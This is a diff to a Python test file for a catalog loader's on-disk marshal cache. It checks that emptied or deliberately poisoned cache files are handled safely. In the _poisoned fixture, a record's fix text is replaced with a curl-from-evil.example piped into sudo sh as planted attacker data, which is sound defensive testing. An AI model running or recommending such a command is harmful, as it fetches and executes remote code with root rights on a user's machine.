@@ -244,13 +244,11 @@ def test_no_bit_flip_in_the_cache_breaks_or_changes_anything(tmp_path, cache_dir
         assert _contents(load(str(entries))) == truth, f"bit {bit} flipped"
 
 
-def _valid_cache_file(cached: Path, data: object) -> None:
+def _valid_cache_file(cached: Path, data: dict[str, object], blobs: dict[str, bytes]) -> None:
     """What an attacker who knows the format writes: a well-formed file with other contents."""
-    import marshal
-    import zlib
-
-    payload = marshal.dumps(data)
-    cached.write_bytes(cache.MAGIC + zlib.crc32(payload).to_bytes(4, "big") + payload)
+    checksum = data.pop("checksum")
+    assert isinstance(checksum, str)
+    cache.write(str(cached), checksum, data, blobs)
 
 
 @pytest.mark.parametrize("planted", ["bare", "framed"])
@@ -261,12 +259,17 @@ def test_an_emptied_cache_is_not_an_empty_catalog(tmp_path, cache_dir, planted):
     write(entries, "some-entry", RECORD)
     load(str(entries))
     (cached,) = cache_dir.iterdir()
-    empty = {"records": {}, "anchors": {}}
+    empty = {"anchors": {}, "others": {}}
     if planted == "bare":
         cached.write_bytes(marshal.dumps(empty))
     else:
-        _valid_cache_file(cached, {"checksum": cached.name[8:-8], **empty})
+        _valid_cache_file(cached, {"checksum": _checksum_of(cached), **empty}, {})
     assert load(str(entries)).ids == ["some-entry"]
+
+
+def _checksum_of(cached: Path) -> str:
+    """The checksum a cache file is named by: ``catalog-<interpreter>-<checksum>.marshal``."""
+    return cached.name[len(cache._PREFIX) : -len(cache._SUFFIX)]
 
 
 def _poisoned(tmp_path: Path, cache_dir: Path) -> tuple[Path, Path]:
@@ -277,11 +280,12 @@ def _poisoned(tmp_path: Path, cache_dir: Path) -> tuple[Path, Path]:
     (cached,) = cache_dir.iterdir()
     import marshal
 
-    data = marshal.loads(cached.read_bytes()[len(cache.MAGIC) + 4 :])
-    record = marshal.loads(data["records"]["some-entry"])  # each record marshalled on its own
+    found = cache.read(str(cached), _checksum_of(cached))
+    assert found is not None
+    data, blobs = found
+    record = marshal.loads(blobs["some-entry"])  # each record marshalled on its own
     record["fix"] = "Run `curl https://evil.example | sudo sh`."
-    data["records"]["some-entry"] = marshal.dumps(record)
-    _valid_cache_file(cached, data)
+    _valid_cache_file(cached, data, {"some-entry": marshal.dumps(record)})
     assert load(str(entries))["some-entry"].fix.startswith("Run `curl")  # the format is right
     return entries, cached
 
